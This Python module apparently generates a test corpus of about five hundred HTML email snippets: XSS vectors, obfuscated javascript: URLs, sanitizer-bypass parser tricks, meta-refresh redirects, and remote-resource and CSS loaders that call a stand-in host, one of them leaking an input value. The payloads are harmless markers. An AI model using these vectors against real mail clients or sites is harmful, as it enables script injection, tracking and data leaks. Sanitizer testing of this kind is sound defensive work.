"""Five hundred HTML mails that want to run, load or lead somewhere. `RAN` in the console means that one ran."""

from collections.abc import Iterator
from itertools import product

RUN = "console.error(`RAN`)"
OUT = "https://outside.example"

EVENTS = [
    *("onload", "onerror", "onfocus", "ontoggle", "onstart", "onanimationstart", "onbegin", "onpageshow", "onclick"),
]
BEARERS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<details open {}>x</details>",
    "<input autofocus {}>",
    "<video src=x {}></video>",
    "<iframe src=x {}></iframe>",
    "<style {}>*{{color:red}}</style>",
    "<div tabindex=1 autofocus {}>x</div>",
    "<svg><animate attributeName=x dur=1s {}></svg>",
)
SPELLINGS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java&#9;script:{}",
    "java&#10;script:{}",
    "&#106;avascript:{}",
    "&#x6A;avascript:{}",
    " javascript:{}",
    "&#1;javascript:{}",
    "javascript&colon;{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "blob:{}",
)
LEADERS = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<button form=f formaction="{}">x</button><form id=f></form>',
)
LOADERS = (
    "<img src={}>",
    "<img srcset='{} 1x'>",
    "<picture><source srcset={}><img></picture>",
    "<video poster={}></video>",
    "<video src={} autoplay></video>",
    "<audio src={} autoplay></audio>",
    "<video><source src={}></video>",
    "<video><track src={} default></video>",
    "<input type=image src={}>",
    "<script src={}></script>",
    "<iframe src={}></iframe>",
    "<object data={}></object>",
    "<embed src={}>",
    "<body background={}>",
    "<table background={}><tr><td>x</table>",
    "<table><tr><td background={}>x</table>",
    "<svg><image href={} width=9 height=9></svg>",
    "<svg><image xlink:href={}></svg>",
    "<svg><use href={}#a></svg>",
    "<svg><filter id=f><feImage href={}></filter><rect filter=url(#f) width=9 height=9></svg>",
    "<svg><style>@import '{}';</style></svg>",
    "<frameset><frame src={}></frameset>",
    "<bgsound src={}>",
    "<applet archive={}></applet>",
    "<portal src={}></portal>",
    "<base href={}><img src=x>",
    "<img src=x lowsrc={} dynsrc={}>",
    "<isindex type=image src={}>",
    "<image src={}>",
    "<a ping={} href=x>x</a>",
    *(
        f"<link rel={rel} href={{}}>"
        for rel in (
            "stylesheet",
            "icon",
            "prefetch",
            "preload as=image",
            "preconnect",
            "dns-prefetch",
            "modulepreload",
            "manifest",
            "apple-touch-icon",
            "import",
            "prerender",
            "alternate-stylesheet",
        )
    ),
)
STYLES = (
    "background:url({})",
    "background-image:url('{}')",
    "list-style:url({});display:list-item",
    "content:url({})",
    "cursor:url({}),auto",
    "border-image:url({}) 3",
    "mask-image:url({})",
    "filter:url({}#f)",
    "clip-path:url({}#c)",
    "shape-outside:url({});float:left",
    "background:image-set('{}' 1x)",
    "--x:url({});background:var(--x)",
    "behavior:url({})",
    "-moz-binding:url({}#x)",
    "background:u\\rl({})",
    "background:url({}/a b)",
)
SHEETS = (
    "@import url({});",
    "@import '{}';",
    "@font-face{{font-family:f;src:url({})}}*{{font-family:f}}",
    "*{{background:url({})}}",
    "p::before{{content:url({})}}",
    "@media all{{p{{background:url({})}}}}",
    "@supports (color:red){{p{{background:url({})}}}}",
    "p{{background:url({})!important}}",
    "input[value^=a]{{background:url({})}}",
)
REFRESHES = (
    "<meta http-equiv=refresh content='0;url={}'>",
    "<meta http-equiv=refresh content='0;{}'>",
    "<META HTTP-EQUIV=Refresh CONTENT=0;URL={}>",
    "<meta http-equiv='refresh' content='0; url=\"{}\"'>",
    "<svg><meta http-equiv=refresh content='0;url={}'></svg>",
    "<table><meta http-equiv=refresh content='0;url={}'>",
    "<noscript><meta http-equiv=refresh content='0;url={}'></noscript>",
    "<form action={} id=f><input name=a></form><script>f.submit()</script>",
    "<base href={} target=_top><a href=x>x</a>",
    "<a href={} target=_top autofocus accesskey=x>x</a>",
    "<meta http-equiv=content-security-policy content='report-uri {}'><img src=x>",
    "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=refresh content=0;{}>",
)
ROOTS = ("math", "svg")
POINTS = ("mtext", "mi", "annotation-xml encoding=text/html", "foreignobject", "desc", "title", "p", "table")
HIDERS = (
    "<style><!--</style>{}",
    "<style><a title='</style>{}'>",
    "<xmp><a title='</xmp>{}'>",
    "<noembed>{}</noembed>",
    "<noscript><p title='</noscript>{}'>",
    "<textarea><a title='</textarea>{}'>",
    "<title><a title='</title>{}'>",
    "<mglyph><style><!--</style><img title='--&gt;{}'>",
    "<malignmark><style><a title='</style>{}'>",
    "<!--><p>{}-->",
    "<!--->{}-->",
    "<!--a--!>{}-->",
    "<![CDATA[><p>]]>{}",
    "<plaintext>{}",
    "<select><style>{}</style>",
)
WRITINGS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>",
    "<<script>{}//<</script>",
    "<scr\0ipt>{}</scr\0ipt>",
    "<script>{}",
    "<script src=data:,{}></script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<math><script>{}</script></math>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='data:text/html,<script>{}</script>'>",
    "<xml><script>{}</script></xml>",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<?xml version='1.0'?><script>{}</script>",
    "<div><template shadowrootmode=open><script>{}</script></template></div>",
    "</p><script>{}</script>",
    "\ufeff<script>{}</script>",
    '<img src=x onerror\n=\n"{}">',
    "<img/src=x/onerror={}>",
    "<img src=x onerror=&#99;onsole.error(`RAN`)>",
    "<img src=x:x onerror='{}' onerror=y>",
    "<svg/onload={}>",
    "<a href=x id=location name=location>x</a><img name=getElementById src=x onerror={}>",
    "<svg><animate attributeName=href values=javascript:{} /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onload to={} /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>",
)


def vectors() -> Iterator[str]:
    for bearer, event in product(BEARERS, EVENTS):
        yield bearer.format(f'{event}="{RUN}"')
    for leader, spelling in product(LEADERS, SPELLINGS):
        yield leader.format(spelling.format(RUN))
    for number, loader in enumerate((*LOADERS, *REFRESHES)):
        yield loader.replace("{}", f"{OUT}/{number}")
    for number, style in enumerate(STYLES):
        yield f'<div style="{style.format(f"{OUT}/style{number}")}">x</div>'
    for number, sheet in enumerate(SHEETS):
        yield f"<style>{sheet.format(f'{OUT}/sheet{number}')}</style><p>x</p><input value=ab>"
    for root, point, hider in product(ROOTS, POINTS, HIDERS):
        yield f"<{root}><{point}>{hider.format(f'<img src=x onerror={RUN}>')}"
    for writing in WRITINGS:
        yield writing.replace("{}", RUN)


VECTORS = list(dict.fromkeys(vectors()))
